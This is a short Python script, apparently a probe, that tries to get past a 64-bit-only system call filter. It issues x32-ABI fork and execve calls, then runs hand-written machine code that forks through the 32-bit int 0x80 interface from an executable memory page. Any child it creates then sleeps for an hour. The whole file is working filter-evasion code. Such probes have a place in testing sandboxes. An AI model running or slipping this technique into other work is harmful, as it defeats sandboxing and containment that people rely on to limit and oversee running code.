"""Makes calls in the 32-bit and the x32 way, whose numbers a filter for 64 bits does not know."""
import ctypes
import mmap
import os

libc = ctypes.CDLL(None, use_errno=True)
print(libc.syscall(0x40000000 | 57), libc.syscall(0x40000000 | 59), os.strerror(ctypes.get_errno()))
code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
code.write(bytes.fromhex("b802000000cd80c3"))  # fork, by interrupt 0x80
place = ctypes.addressof(ctypes.c_char.from_buffer(code))
here = os.getpid()
print(ctypes.CFUNCTYPE(ctypes.c_int)(place)())
if os.getpid() != here:
    import time

    time.sleep(3600)
